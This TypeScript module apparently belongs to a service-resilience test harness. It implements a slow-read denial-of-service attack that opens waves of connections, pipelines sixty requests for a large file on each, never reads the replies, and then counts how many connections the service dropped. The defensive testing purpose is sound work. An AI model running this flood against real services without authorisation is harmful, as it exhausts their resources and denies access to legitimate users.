import type { Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { addressOf, connectFrom } from "./ask.ts";
import { type Attack, type Field, isOver, scaled } from "./attack.ts";

const CONNECTIONS = 200;
const ADDRESSES = 50;
const REQUESTS = 60;
/** Long enough that the service has given up a wave before the next one. */
const WAVE_EVERY_MS = 60_000;
const ANSWER_TO_PROBE_MS = 500;

/** Clients that ask for a large file many times in one go and never read. */
export const slowReaders: Attack = async (field) => {
  const all: { socket: Socket; isGone: boolean }[] = [];
  let nextWave = performance.now();
  while (!isOver(field)) {
    if (performance.now() >= nextWave) {
      nextWave += WAVE_EVERY_MS;
      for (let i = 0; i < scaled(CONNECTIONS, field); i++) {
        const socket = begin(field, i);
        const reader = { socket, isGone: false };
        socket.once("error", () => {
          reader.isGone = true;
        });
        all.push(reader);
      }
    }
    await pause(100);
  }
  // A client that does not read learns that its connection has ended only when it writes: a reset is the answer.
  for (let i = 0; i < 2; i++) {
    for (const { socket } of all) if (!socket.destroyed) socket.write("G");
    await pause(ANSWER_TO_PROBE_MS);
  }
  const gone = all.filter(({ isGone }) => isGone).length;
  return [
    ["connections that never read", `${all.length}, each with ${REQUESTS} requests`],
    ["of these ended by the service meanwhile", gone],
  ];
};

function begin({ target }: Field, n: number): Socket {
  const from = addressOf(target.attackers, 1_000 + (n % ADDRESSES));
  const socket = connectFrom(from, target.origin);
  socket.pause();
  socket.write(
    "GET /vendor/frappe-charts.iife.min.js HTTP/1.1\r\nHost: x\r\n\r\n".repeat(REQUESTS),
  );
  return socket;
}
